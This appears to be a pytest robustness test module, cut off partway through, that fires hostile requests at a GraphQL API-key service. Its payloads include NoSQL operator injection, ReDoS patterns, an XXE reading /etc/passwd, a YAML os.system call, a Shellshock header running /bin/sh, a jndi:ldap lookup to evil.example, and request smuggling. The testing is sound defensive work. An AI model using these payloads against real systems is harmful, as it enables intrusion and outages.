"""Hostile requests to a real service: after each it lives, tells nothing of itself and keeps its memory."""

import base64
import http.client
import json
import re
import resource
import socket
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import quote, urlsplit

import httpx
import pytest
from websockets.exceptions import ConnectionClosed
from websockets.sync.client import ClientConnection, connect
from websockets.typing import Subprotocol

from ..processes import Service, serving

LIVE_SECONDS = 1.0
MORE_MEMORY_BYTES = 50_000_000
SECRET = re.compile(r"gqlid_[0-9A-Za-z]{49}")
# What stands in another domain, and in no request below.
VICTIM = {"domain_id": "vault", "user_id": "crown-prince", "name": "crown jewels"}
# Our insides: Python, the libraries, the database.
INSIDES = re.compile(
    r"Traceback|File \"|line \d+, in |\.py\b|<(class|function|object)|object at 0x"
    r"|\b[A-Z][a-z]+[A-Za-z]*(Error|Exception)\b|\bNone\b|\bTrue\b|\bFalse\b|\bdict\b|\btuple\b|recursion|codec|ordinal"
    r"|api_keys\b|disabled_rank|crown"
    r"|(?i:pymongo|motor|bson|mongo|secantus|wiredtiger|graphql.core|strawberry|starlette|uvicorn|httptools)"
    r"|(?i:pydantic|orjson|structlog|asyncio|site-packages|NoneType)"
)

TYPENAME = "{ __typename }"
LIST = "query($i: APIKeyQuery!) { apiKeys(input: $i) { totalCount results { apiKeyId } } }"
STATS = "query($i: APIKeyStatQuery!) { apiKeyStats(input: $i) }"
GET = "query($i: GetAPIKeyRequest!) { apiKey(input: $i) { apiKeyId userId domainId name hint } }"
CREATE = "mutation($i: CreateAPIKeyRequest!) { createApiKey(input: $i) { apiKeyId } }"
DISABLE = "mutation($i: APIKeyRequest!) { disableApiKey(input: $i) { apiKeyId } }"
VERIFY = "mutation($i: VerifyAPIKeyRequest!) { verifyApiKey(input: $i) { valid code } }"
ENTITIES = "query($r: [_Any!]!) { _entities(representations: $r) { __typename ... on APIKeyInfo { userId name } } }"
NODE = "query($id: ID!) { node(id: $id) { id ... on APIKeyInfo { userId name } } }"
HANGING = {"query": 'subscription { apiKeyChanged(input: {domainId: "d1", userId: "nobody"}) { type } }'}
DOCUMENT_REFUSED = {"GRAPHQL_PARSE_FAILED", "GRAPHQL_VALIDATION_FAILED", "RESOURCE_EXHAUSTED", "BAD_USER_INPUT"}


class Case(NamedTuple):
    """One hostile request, as bytes on the wire; `CREDENTIAL` in it becomes the attacker's header."""

    name: str
    wire: bytes
    codes: frozenset[str] | None = None  # one of these is answered; None: whatever it is
    may_close: bool = False  # what is no HTTP may be answered by a close
    half_closed: bool = False  # whether the client says that it sends no more


CREDENTIAL = b"Authorization: CREDENTIAL\r\n"


def request(
    method: str,
    target: str | bytes,
    body: bytes = b"",
    *headers: str | bytes,
    json_type: bool = True,
    auth: bool = True,
) -> bytes:
    path = target.encode() if isinstance(target, str) else target
    lines = [b"%s %s HTTP/1.1" % (method.encode(), path), b"Host: service"]
    lines += [line.encode("latin-1") if isinstance(line, str) else line for line in headers]
    lines += [b"Content-Type: application/json"] if json_type else []
    lines += [b"Content-Length: %d" % len(body)] if body or method == "POST" else []
    return b"\r\n".join(lines) + b"\r\n" + (CREDENTIAL if auth else b"") + b"\r\n" + body


def graphql(query: Any, variables: Any = None, **more: Any) -> bytes:
    return request("POST", "/graphql", json.dumps({"query": query, "variables": variables, **more}).encode())


def named(group: str, cases: dict[str, bytes], codes: set[str] | None = None, **more: bool) -> list[Case]:
    return [
        Case(f"{group}: {name}", wire, None if codes is None else frozenset(codes), **more)
        for name, wire in cases.items()
    ]


def nested(before: str, inner: str, after: str, times: int) -> str:
    return before * times + inner + after * times


def fragments(spread: Any, number: int) -> str:
    """A query of fragments 0 to `number`, each with what `spread` says of the next."""
    return "{ ...F0 }" + "".join(f" fragment F{n} on Query {{ {spread(n + 1)} }}" for n in range(number))


DOCUMENTS = {
    "10,000 deep": nested("{ a", "", " }", 10_000),
    "10,000 open braces": "{" * 10_000,
    "10,000 closed braces": "}" * 10_000,
    "a circle of types": '{ apiKey(input: {domainId: "d", apiKeyId: "k"}) { '
    + nested("user { apiKeys { nodes { ", "id", " } } }", 12)
    + " } }",
    "inline fragments 400 deep": "{ " + nested("... { ", "__typename", " }", 400) + " }",
    "inline fragments 150 deep": "{ " + nested("... { ", "__typename", " }", 150) + " }",
    "a list literal 2,000 deep": f"{{ a(x: {nested('[', '1', ']', 700)}) }}",
    "a list literal 400 deep in JSON": '{ apiKeys(input: {domainId: "d", query: {filter: [{key: "name", value: '
    + nested("[", "1", "]", 400)
    + "}]}}) { totalCount } }",
    "an object literal 400 deep": f"{{ a(x: {nested('{a: ', '1', '}', 400)}) }}",
    "a list type 400 deep": f"query($a: {nested('[', 'Int', ']', 400)}) {{ __typename }}",
    "10,000 aliases": "{ " + " ".join(f"a{n}: __typename" for n in range(10_000)) + " }",
    "300 aliases": "{ " + " ".join(f"a{n}: __typename" for n in range(300)) + " }",
    "31 aliases of a costly field": "{ "
    + " ".join(f'a{n}: apiKeys(input: {{domainId: "d"}}) {{ totalCount }}' for n in range(31))
    + " }",
    "21 root fields": "{ " + " ".join(f'a{n}: node(id: "x") {{ id }}' for n in range(21)) + " }",
    "a field 10,000 times": "{ " + "__typename " * 10_000 + "}",
    "a field 400 times": "{ " + "__typename " * 400 + "}",
    "a field 200 times with selections": '{ apiKeys(input: {domainId: "d"}) { '
    + "results { user { userId } } " * 150
    + "} }",
    "a fragment that spreads itself": "{ ...A } fragment A on Query { ...A }",
    "two fragments in a circle": "{ ...A } fragment A on Query { ...B } fragment B on Query { ...A }",
    "a circle below a field": "{ ...A } fragment A on Query { __schema { ...B } } fragment B on __Schema "
    "{ types { fields { type { ...C } } } } fragment C on __Type { fields { type { ...C } } }",
    "exponential fragments": fragments(lambda n: f"...F{n} ...F{n}", 30) + " fragment F30 on Query { __typename }",
    "exponential fragments, 80 levels": fragments(lambda n: f"...F{n} ...F{n} ...F{n}", 80)
    + " fragment F80 on Query { __typename }",
    "fragments in a row": fragments(lambda n: f"...F{n}", 150) + " fragment F150 on Query { __typename }",
    "the same fragment 300 times": "{ " + "...A " * 300 + "} fragment A on Query { __typename }",
    "150 unused fragments": "{ __typename }" + " ".join(f"fragment F{n} on Query {{ a }}" for n in range(150)),
    "a fragment twice": "{ ...A } fragment A on Query { __typename } fragment A on Query { __typename }",
    "a fragment on nothing": "{ ...A } fragment A on Nothing { __typename }",
    "a fragment on a leaf": "{ ...A } fragment A on String { length }",
    "a spread of nothing": "{ ...Nothing }",
    "1,000 directives": "{ __typename " + "@include(if: true) " * 1000 + "}",
    "60 directives": "{ __typename " + "@include(if: true) " * 60 + "}",
    "200 unknown directives": "{ __typename " + "@a" * 200 + " }",
    "a directive of the schema": "{ __typename @deprecated }",
    "a directive without its argument": "{ __typename @skip }",
    "directives on an operation": "query " + "@skip(if: true) " * 60 + "{ __typename }",
    "@defer and @stream": '{ ... @defer { __typename } apiKeys(input: {domainId: "d"}) { results @stream { id } } }',
    "a text of 100 kB": f'{{ apiKey(input: {{domainId: "d", apiKeyId: "{"x" * 100_000}"}}) {{ id }} }}',
    "a name of 40 kB": f"{{ {'x' * 40_000} }}",
    "a type name of 40 kB": f"query($a: {'X' * 40_000}) {{ __typename }}",
    "a comment of 200 kB": "#" + "x" * 200_000 + "\n{ __typename }",
    "10,000 comments": "#\n" * 10_000 + "{ __typename }",
    "200 kB of commas": "{" + "," * 200_000 + "__typename }",
    "200 kB of white space": "{" + " " * 200_000 + "__typename }",
    "a text without an end": '{ apiKey(input: {domainId: "',
    "a block text without an end": '{ apiKey(input: {domainId: """',
    "a block text of quotes": '{ a(x: """' + '\\"""' * 5_000,
    "30,000 quotes": '"' * 30_000,
    "a line break in a text": '{ a(x: "\n") }',
    "a null byte": "{ __typename\x00 }",
    "a null byte in a text": '{ a(x: "\x00") }',
    "a bell": "\x07{ __typename }",
    "a lone surrogate": '{ a(x: "\\ud800") }',
    "a surrogate in braces": '{ a(x: "\\u{D800}") }',
    "beyond unicode": '{ a(x: "\\u{110000}") }',
    "a code point without an end": '{ a(x: "\\u{' + "F" * 5_000 + '}") }',
    "a bad escape": '{ a(x: "\\x41") }',
    "a homoglyph": "{ __typen\u0430me }",
    "right to left": "{ \u202e__typename }",
    "zero width": "{ __type\u200bname }",
    "an emoji": "{ \U0001f511 }",
    "a number of 40,000 digits": f"{{ a(x: {'9' * 40_000}) }}",
    "a number of 4,400 digits as a page": '{ apiKeys(input: {domainId: "d", query: {page: {limit: '
    + "9" * 4_400
    + "}}}) { totalCount } }",
    "1e400 as a page": '{ apiKeys(input: {domainId: "d", query: {page: {limit: 1e400}}}) { totalCount } }',
    "NaN": "{ a(x: NaN) }",
    "Infinity": '{ apiKeys(input: {domainId: "d", query: {page: {limit: Infinity}}}) { totalCount } }',
    "a hexadecimal number": "{ a(x: 0x10) }",
    "a number with a leading 0": "{ a(x: 01) }",
    "a number and a letter": "{ a(x: 1a) }",
    "nothing": "",
    "white space": " \n\t",
    "a comment": "# hello",
    "a fragment alone": "fragment A on Query { __typename }",
    "a schema": "type Query { a: Int } schema { query: Query }",
    "an extension": "{ __typename } extend type Query { a: Int }",
    "a query of another language": "SELECT * FROM api_keys; DROP TABLE api_keys --",
    "markup": "<script>alert(1)</script>",
    "a template": "{{7*7}}${7*7}#{7*7}",
    "no such operation": "delete { everything }",
    "a subscription with two fields": 'subscription { a: apiKeyChanged(input: {domainId: "d"}) { type } '
    'b: apiKeyChanged(input: {domainId: "d"}) { type } }',
    "operations of one name": "query A { __typename } query A { __typename }",
    "an argument twice": '{ apiKey(input: {domainId: "d"}, input: {domainId: "d"}) { id } }',
    "an input field twice": '{ apiKey(input: {domainId: "d", domainId: "e", apiKeyId: "k"}) { id } }',
    "a variable twice": "query($a: Int, $a: Int) { __typename }",
    "250 variables": "query(" + " ".join(f"$a{n}: Int" for n in range(250)) + ") { __typename }",
    "a variable of an output type": "query($a: APIKeyInfo) { __typename }",
    "a default of another type": 'query($a: Int = "x") { __typename }',
    "a variable in a default": "query($a: Int = $b) { __typename }",
    "a variable that is not declared": "{ apiKey(input: $i) { id } }",
    "Python's names": "{ __class__ __init__ __dict__ __globals__ }",
    "JavaScript's names": "{ __proto__ constructor prototype }",
    "the digest": '{ apiKeys(input: {domainId: "d"}) { results { digest disabledRank } } }',
    "every secret": '{ apiKeys(input: {domainId: "d"}) { results { secret } } }',
    "introspection in a circle": "{ __schema { types { " + nested("fields { type { ", "name", " } }", 10) + " } } }",
    "introspection in a short circle": "{ __schema { types { "
    + nested("fields { type { ", "name", " } }", 4)
    + " } } }",
    "introspection many times": "{ " + " ".join(f"a{n}: __schema {{ types {{ name }} }}" for n in range(40)) + " }",
    "a page of a million": '{ apiKeys(input: {domainId: "d1", query: {page: {limit: 1000}}}) { results { '
    + " ".join(f"a{n}: user {{ apiKeys(first: 1000) {{ nodes {{ id }} }} }}" for n in range(3))
    + " } } }",
}
# What runs, odd as it is.
ODD_DOCUMENTS = {
    "100 kB of byte order marks": "\ufeff" * 30_000 + "{ __typename }",
    "an empty selection": "{ }",
    "1e400 as a value": '{ apiKeys(input: {domainId: "d1", query: {filter: [{key: "name", operator: EQ, value: '
    "1e400}]}}) { totalCount } }",
    "a value of 4,000 digits": '{ apiKeys(input: {domainId: "d1", query: {filter: [{key: "name", operator: EQ, value: '
    + "9" * 4_000
    + "}]}}) { totalCount } }",
    "a value of 5,000 digits": '{ apiKeys(input: {domainId: "d1", query: {filter: [{key: "name", operator: EQ, value: '
    + "9" * 5_000
    + "}]}}) { totalCount } }",
    "a value 90 deep": '{ apiKeys(input: {domainId: "d1", query: {filter: [{key: "name", operator: EQ, value: '
    + nested("[", "1", "]", 90)
    + "}]}}) { totalCount } }",
}

FILTERS: dict[str, Any] = {
    "an operator of the database as a key": [{"key": "$where", "value": "sleep(1000)"}],
    "an operator in a path": [{"key": "name.$gt", "value": ""}],
    "a key with a null byte": [{"key": "na\x00me", "value": ""}],
    "the digest": [{"key": "digest", "value": "x"}],
    "a rank": [{"key": "disabledRank", "value": 1}],
    "the id": [{"key": "_id", "value": "x"}],
    "a prototype": [{"key": "__proto__", "value": 1}],
    "a long key": [{"key": "x" * 50_000, "value": 1}],
    "an object as a value": [{"key": "user_id", "value": {"$gt": ""}}],
    "an object of not": [{"key": "user_id", "value": {"$ne": None}, "operator": "NOT"}],
    "a value 900 deep": [{"key": "name", "value": json.loads(nested("[", "1", "]", 900))}],
    "an object 900 deep": [{"key": "name", "value": json.loads(nested('{"a":', "1", "}", 900))}],
    "an integer of 2^63": [{"key": "name", "value": 2**63}],
    "an integer of -2^63-1": [{"key": "name", "value": -(2**63) - 1}],
    "an integer of 100 digits": [{"key": "name", "value": 10**100}],
    "a float": [{"key": "created_at", "value": 1e308, "operator": "GT"}],
    "an instant that is none": [{"key": "created_at", "value": "9999-99-99T99:99:99Z", "operator": "DATETIME_GT"}],
    "the year 0": [{"key": "created_at", "value": "0000-01-01T00:00:00Z", "operator": "DATETIME_GT"}],
    "the year 10,000": [{"key": "created_at", "value": "+10000-01-01T00:00:00Z", "operator": "DATETIME_GT"}],
    "a time ago of 30 digits": [{"key": "created_at", "value": "now-" + "9" * 30 + "d", "operator": "TIMEDIFF_GT"}],
    "a time ago that is none": [{"key": "created_at", "value": "now" + "-1d" * 5_000, "operator": "TIMEDIFF_GT"}],
    "a null byte": [{"key": "name", "value": "\x00"}],
    "a pattern without an end": [{"key": "name", "value": "(((", "operator": "REGEX"}],
    "a pattern that takes forever": [{"key": "name", "value": "(a+)+$" * 10, "operator": "REGEX"}],
    "a pattern with a huge count": [{"key": "name", "value": "a{1000000000}", "operator": "REGEX"}],
    "a pattern with a null byte": [{"key": "name", "value": "a\x00b", "operator": "REGEX"}],
    "a pattern of 10,000": [{"key": "name", "value": "a" * 10_000, "operator": "REGEX"}],
    "a pattern that is no text": [{"key": "name", "value": [1], "operator": "REGEX"}],
    "no such operator": [{"key": "name", "value": "x", "operator": "EVAL"}],
    "a list of 20,000": [{"key": "name", "value": ["x"] * 20_000, "operator": "IN"}],
    "1,000 conditions": [{"key": "name", "value": "x"}] * 1_000,
    "no conditions but an object": {"key": "name"},
    "null": [None],
    "no key": [{"value": 1}],
}
QUERIES: dict[str, Any] = {
    "a negative page": {"page": {"limit": -1}},
    "a page of 2^31": {"page": {"limit": 2**31}},
    "a page of 2^63": {"page": {"limit": 2**63}},
    "a page of text": {"page": {"limit": "10"}},
    "a page of a fraction": {"page": {"limit": 1.5}},
    "a start of 2^31 - 1": {"page": {"start": 2**31 - 1, "limit": 1}},
    "a start of -5": {"page": {"start": -5}},
    "sorted by nature": {"sort": {"key": "$natural"}},
    "sorted by digest": {"sort": {"key": "digest"}},
    "sorted by 1,000 keys": {"sort": {"keys": [{"key": "name"}] * 1_000}},
    "a long keyword": {"keyword": "x" * 50_000},
    "a keyword of patterns": {"keyword": ".*(a+)+$"},
    "a keyword with a null byte": {"keyword": "\x00"},
    "only everything": {"only": ["*", "$$ROOT", "digest"]},
}
STAGES: dict[str, Any] = {
    "a stage of the database": [{"$out": "stolen"}],
    "a look-up": [{"lookup": {"from": "meta"}}],
    "a name with a dollar": [{"group": {"keys": [{"key": "state", "name": "$state"}]}}],
    "a name with a dot": [{"group": {"keys": [{"key": "state", "name": "a.b"}]}}],
    "a name with a null byte": [{"group": {"keys": [{"key": "state", "name": "a\x00"}]}}],
    "an empty name": [{"group": {"keys": [{"key": "state", "name": ""}]}}],
    "a key of the root": [{"group": {"keys": [{"key": "$$ROOT", "name": "x"}]}}],
    "the digests": [{"group": {"fields": [{"operator": "PUSH", "name": "x", "fields": [{"key": "digest"}]}]}}],
    "a stage of nothing": [{}],
    "a stage of two": [{"limit": 1, "skip": 1}],
    "1,000 stages": [{"limit": 1}] * 1_000,
    "a limit of -1": [{"limit": -1}],
    "a projected expression": [
        {"group": {"fields": [{"operator": "COUNT", "name": "n"}]}},
        {"project": {"fields": [{"key": "n", "name": "x", "operator": "DIVIDE", "value": {"$function": "x"}}]}},
    ],
    "a date format that is none": [
        {"group": {"keys": [{"key": "created_at", "name": "x", "dateFormat": "%" * 1_000}]}}
    ],
}


def conditions(filter: Any, *, rest: bool = False) -> Any:
    """Conditions, each with an operator, which REST writes small; what is no list of conditions as it is."""
    if not isinstance(filter, list):
        return filter
    full = [{"operator": "EQ"} | condition if isinstance(condition, dict) else condition for condition in filter]
    return [one | {"operator": one["operator"].lower()} if rest and one else one for one in full]


VARIABLES: dict[str, tuple[str, Any]] = {
    **{
        f"filter by {name}": (LIST, {"i": {"domainId": "d1", "query": {"filter": conditions(filter)}}})
        for name, filter in FILTERS.items()
    },
    **{f"list, {name}": (LIST, {"i": {"domainId": "d1", "query": v}}) for name, v in QUERIES.items()},
    **{f"stat, {name}": (STATS, {"i": {"domainId": "d1", "query": {"aggregate": v}}}) for name, v in STAGES.items()},
    "a domain that is an operator": (LIST, {"i": {"domainId": {"$gt": ""}}}),
    "a domain that is a list": (LIST, {"i": {"domainId": ["d1", "vault"]}}),
    "another domain": (LIST, {"i": {"domainId": "vault"}}),
    "another domain's statistic": (STATS, {"i": {"domainId": "vault", "query": {"distinct": "user_id"}}}),
    "no domain": (LIST, {"i": {}}),
    "an unknown field": (LIST, {"i": {"domainId": "d1", "isAdmin": True}}),
    "a field of 20,000 characters": (LIST, {"i": {"domainId": "d1", "x" * 20_000: 1}}),
    "a prototype": (LIST, {"i": {"domainId": "d1", "__proto__": {"role": "SYSTEM"}}}),
    "an id with a null byte": (GET, {"i": {"domainId": "d1", "apiKeyId": "a\x00"}}),
    "an id with an operator": (GET, {"i": {"domainId": "d1", "apiKeyId": {"$ne": None}}}),
    "an id of 100,000": (GET, {"i": {"domainId": "d1", "apiKeyId": "x" * 100_000}}),
    "an id that is a path": (GET, {"i": {"domainId": "d1", "apiKeyId": "../../vault"}}),
    "an id that is a pattern": (GET, {"i": {"domainId": "d1", "apiKeyId": "/.*/"}}),
    "an id that is a number": (GET, {"i": {"domainId": 1, "apiKeyId": 2}}),
    "a domain in other letters": (GET, {"i": {"domainId": "D1", "apiKeyId": "k"}}),
    "a key as another role": (CREATE, {"i": {"domainId": "d1", "userId": "mallory", "role": "SYSTEM"}}),
    "a key for another": (CREATE, {"i": {"domainId": "d1", "userId": "someone"}}),
    "a key for another domain": (CREATE, {"i": {"domainId": "vault", "userId": "mallory"}}),
    "a key with a digest": (CREATE, {"i": {"domainId": "d1", "userId": "mallory", "digest": "x"}}),
    "a key of a huge name": (CREATE, {"i": {"domainId": "d1", "userId": "mallory", "name": "x" * 100_000}}),
    "a key of a name with a null byte": (CREATE, {"i": {"domainId": "d1", "userId": "mallory", "name": "\x00"}}),
    "a key of a name of line breaks": (CREATE, {"i": {"domainId": "d1", "userId": "mallory", "name": "a\r\nb"}}),
    "a key of a format": (DISABLE, {"i": {"domainId": "d1", "apiKeyId": "%s%n{0.__class__}"}}),
    "disabling everything": (DISABLE, {"i": {"domainId": "d1", "apiKeyId": {"$regex": ".*"}}}),
    "a secret of nothing": (VERIFY, {"i": {"apiKey": ""}}),
    "a secret of 100,000": (VERIFY, {"i": {"apiKey": "gqlid_" + "x" * 100_000}}),
    "a secret of null bytes": (VERIFY, {"i": {"apiKey": "gqlid_" + "\x00" * 49}}),
    "a secret of other digits": (VERIFY, {"i": {"apiKey": "gqlid_" + "\u0661" * 49}}),
    "a secret that is an operator": (VERIFY, {"i": {"apiKey": {"$gt": ""}}}),
    "a secret that is a number": (VERIFY, {"i": {"apiKey": 1}}),
    "entities of nothing": (ENTITIES, {"r": [{}]}),
    "entities of another type": (ENTITIES, {"r": [{"__typename": "Query"}]}),
    "entities that are none": (ENTITIES, {"r": [1, "x", None, []]}),
    "an entity without its key": (ENTITIES, {"r": [{"__typename": "APIKeyInfo"}]}),
    "an entity of operators": (
        ENTITIES,
        {"r": [{"__typename": "APIKeyInfo", "domainId": {"$gt": ""}, "apiKeyId": {}}]},
    ),
    "an entity of another domain": (
        ENTITIES,
        {"r": [{"__typename": "APIKeyInfo", "domainId": "vault", "apiKeyId": "k"}]},
    ),
    "entities of Python": (ENTITIES, {"r": [{"__typename": "__class__", "__class__": "x"}]}),
    "3,000 entities": (ENTITIES, {"r": [{"__typename": "APIKeyInfo", "domainId": "d1", "apiKeyId": "k"}] * 3_000}),
    "an entity of 2^70": (ENTITIES, {"r": [{"__typename": "APIKeyInfo", "domainId": 2**70, "apiKeyId": 1e300}]}),
    "a node that is no base64": (NODE, {"id": "!!!"}),
    "a node of padding": (NODE, {"id": "===="}),
    "a node of bytes": (NODE, {"id": base64.b64encode(b"\xff\xfe\x00").decode()}),
    "a node of JSON": (NODE, {"id": base64.b64encode(b'["vault", {"$gt": ""}]').decode()}),
    "a node of 100,000": (NODE, {"id": "QQ" * 50_000}),
    "a node of nothing": (NODE, {"id": ""}),
    "variables that are no object": (LIST, ["d1"]),
    "variables that are text": (LIST, "d1"),
    "30,000 variables": (TYPENAME, {f"v{n}": n for n in range(15_000)}),
}

BODIES: dict[str, bytes] = {
    **{
        name: text.encode()
        for name, text in {
            "a number": "1",
            "a text": '"x"',
            "null": "null",
            "true": "true",
            "an empty list": "[]",
            "a list of lists": "[[]]",
            "a batch": json.dumps([{"query": TYPENAME}] * 2),
            "a batch of 1,000": json.dumps([{"query": TYPENAME}] * 1_000),
            "an empty object": "{}",
            "no text as a query": '{"query": 1}',
            "null as a query": '{"query": null}',
            "a list as a query": '{"query": ["{ __typename }"]}',
            "an object as a query": '{"query": {"a": 1}}',
            "a number as a name": '{"query": "{ __typename }", "operationName": 1}',
            "a list of extensions": '{"query": "{ __typename }", "extensions": []}',
            "no such version": '{"extensions": {"persistedQuery": {"version": 2, "sha256Hash": "x"}}}',
            "a hash that is a number": '{"extensions": {"persistedQuery": {"version": 1, "sha256Hash": 1}}}',
            "persisted: text": '{"extensions": {"persistedQuery": "x"}}',
            "persisted: a path": '{"documentId": "../../etc/passwd"}',
            "persisted: a number": '{"documentId": 1}',
            "garbage behind": '{"query": "{ __typename }"} x',
            "two objects": '{"query": "{ __typename }"}{"query": "{ __typename }"}',
            "NaN": '{"query": "{ __typename }", "variables": {"a": NaN}}',
            "Infinity": '{"query": "{ __typename }", "variables": {"a": Infinity}}',
            "1e999": '{"query": "{ __typename }", "variables": {"a": 1e999}}',
            "a number of 100,000 digits": '{"query": "{ __typename }", "variables": {"a": ' + "9" * 100_000 + "}}",
            "lists 100,000 deep": "[" * 100_000 + "]" * 100_000,
            "lists 100,000 deep in variables": '{"query": "{ __typename }", "variables": {"a": '
            + nested("[", "", "]", 100_000)
            + "}}",
            "objects 20,000 deep": nested('{"a":', "1", "}", 20_000),
            "open lists": "[" * 200_000,
            "a lone surrogate": '{"query": "{ __typename \\ud800 }"}',
            "a surrogate as a name": '{"query": "{ __typename }", "operationName": "\\ud800"}',
            "comments": '/* x */ {"query": "{ __typename }"}',
            "single quotes": "{'query': '{ __typename }'}",
            "a trailing comma": '{"query": "{ __typename }",}',
            "a byte order mark": "\ufeff" + '{"query": "{ __typename }"}',
            "nothing": "",
            "white space": "   ",
            "a null byte": "\x00",
            "a text without an end": '{"query": "',
            "20,000 keys": json.dumps({f"k{n}": n for n in range(15_000)}),
            "XML": "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
            "YAML": "!!python/object/apply:os.system ['id']",
            "over the limit": '{"query": "' + "x" * 300_000 + '"}',
        }.items()
    },
    "UTF-16": json.dumps({"query": TYPENAME}).encode("utf-16"),
    "UTF-32": json.dumps({"query": TYPENAME}).encode("utf-32"),
    "Latin-1": '{"query": "{ é }"}'.encode("latin-1"),
    "overlong UTF-8": b'{"query": "\xc0\xaf"}',
    "surrogates in UTF-8": b'{"query": "\xed\xa0\x80"}',
    "half a character": b'{"query": "\xe2\x82"}',
    "gzip": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03",
    "pickle": b"\x80\x04\x95\x00\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x94.",
}
GOOD = json.dumps({"query": TYPENAME}).encode()
TYPES = [
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=x",
    "text/plain",
    "application/graphql",
    "application/json; charset=latin-1",
    "application/json; charset=utf-16",
    "application/json, text/plain",
    "application/jsonp",
    "json",
    "",
    "x" * 10_000,
    "application/json; charset=\xff",
]
AUTHORIZATIONS = {
    "none": "",
    "a scheme alone": "Bearer",
    "another scheme": "Basic YWRtaW46YWRtaW4=",
    "digest": 'Digest username="admin", realm="x", nonce="", uri="/", response="x"',
    "30,000 characters": "Bearer " + "x" * 30_000,
    "many spaces": "Bearer" + " " * 30_000 + "x",
    "a wrong checksum": "Bearer gqlid_" + "0" * 49,
    "bytes": "Bearer \xff\xfe",
    "a token of nobody": "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.",
    "a query of another language": "Bearer ' OR '1'='1",
    "an operator": 'Bearer {"$gt": ""}',
    "only commas": "Bearer ,,,,",
}
HEADERS: dict[str, str | bytes] = {
    "Accept of 2,000 types": "Accept: " + ", ".join(f"a/b{n};q=0.{n}" for n in range(2_000)),
    "Accept of odd qualities": "Accept: application/json;q=nan,text/html;q=-1, application/graphql-response+json;q=inf",
    "Accept of quality 1e999": "Accept: application/json;q=1e999",
    "Accept of semicolons": "Accept: " + ";" * 20_000,
    "Accept of bytes": b"Accept: \xff\xfe/\x80",
    "Accept of an event stream": "Accept: text/event-stream",
    "X-Forwarded-For of 5,000": "X-Forwarded-For: " + ",".join(["1.2.3.4"] * 5_000),
    "X-Forwarded-For that is none": "X-Forwarded-For: ' OR 1=1, ::::, 999.1.1.1, [::1",
    "X-Forwarded-For of bytes": b"X-Forwarded-For: \xff",
    "X-Request-ID of 20,000": "X-Request-ID: " + "x" * 20_000,
    "X-Request-ID of markup": "X-Request-ID: <script>alert(1)</script>",
    "X-Request-ID of escapes": b"X-Request-ID: \x1b[31mred",
    "X-HTTP-Method-Override": "X-HTTP-Method-Override: DELETE",
    "a method in a query": "X-Method-Override: GET",
    "Content-Encoding": "Content-Encoding: gzip",
    "Origin of nobody": "Origin: null",
    "Origin of bytes": b"Origin: http://\xff",
    "Host twice": "Host: evil.example",
    "Forwarded": "Forwarded: for=127.0.0.1;host=evil.example;proto=https",
    "Cookies": "Cookie: " + "a=b; " * 5_000,
    "Range": "Range: bytes=" + "0-," * 5_000,
    "If-None-Match": "If-None-Match: *",
    "Expect": "Expect: 100-continue",
    "Upgrade to h2c": "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQ",
    "a shell": "User-Agent: () { :;}; /bin/sh -c id",
    "a look-up": "User-Agent: ${jndi:ldap://evil.example/a}",
}
# What is no HTTP, or nearly none: a close is an answer.
WIRES = {
    "X-Request-ID with a line break": request("POST", "/graphql", GOOD, b"X-Request-ID: a\nX-Injected: b"),
    "a null byte in a header": request("POST", "/graphql", GOOD, b"X-A: a\x00b"),
    "a carriage return in a header": request("POST", "/graphql", GOOD, b"X-A: a\rb"),
    "a folded header": request("POST", "/graphql", GOOD, b"X-A: a\r\n b"),
    "a header without a colon": request("POST", "/graphql", GOOD, b"nothing"),
    "a space before the colon": request("POST", "/graphql", GOOD, b"X-A : a"),
    "a header without a name": request("POST", "/graphql", GOOD, b": a"),
    "10,000 headers": request("POST", "/graphql", GOOD, *[f"X-{n}: {n}" for n in range(10_000)]),
    "a header of 1 MB": request("POST", "/graphql", GOOD, "X-A: " + "x" * 1_000_000),
    "a header without an end": b"POST /graphql HTTP/1.1\r\nX-A: " + b"x" * 5_000_000,
    "a path without an end": b"GET /" + b"x" * 5_000_000,
    "300,000 empty headers": b"POST /graphql HTTP/1.1\r\n" + b"a:\r\n" * 300_000,
    "trailers without an end": request("POST", "/graphql", b"", "Transfer-Encoding: chunked").replace(
        b"Content-Length: 0\r\n", b""
    )
    + b"1\r\n{\r\n0\r\n"
    + b"a: b\r\n" * 300_000,
    "Content-Length twice": request("POST", "/graphql", GOOD, "Content-Length: 5"),
    "a negative Content-Length": b"POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
    "Content-Length of text": b"POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Length: ten\r\n\r\n",
    "Content-Length of 30 digits": b"POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Length: " + b"9" * 30 + b"\r\n\r\n",
    "Content-Length and chunks": request("POST", "/graphql", GOOD, "Transfer-Encoding: chunked"),
    "a chunk of a bad size": b"POST /graphql HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nZZ\r\n",
    "a chunk of 2^70": b"POST /graphql HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFFF\r\n",
    "another transfer encoding": b"POST /graphql HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: gzip\r\n\r\n",
    "a chunk with a long extension": b"POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n1;" + b"x" * 3_000_000,
    "no HTTP": b"hello\r\n\r\n",
    "no version": b"GET /livez\r\n\r\n",
    "another version": b"GET /livez HTTP/9.9\r\nHost: x\r\n\r\n",
    "no host": b"GET /livez HTTP/1.1\r\n\r\n",
    "no such method": b"FROB /graphql HTTP/1.1\r\nHost: x\r\n\r\n",
    "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 512,
    "null bytes": b"\x00" * 100_000,
    "line breaks": b"\r\n" * 50_000,
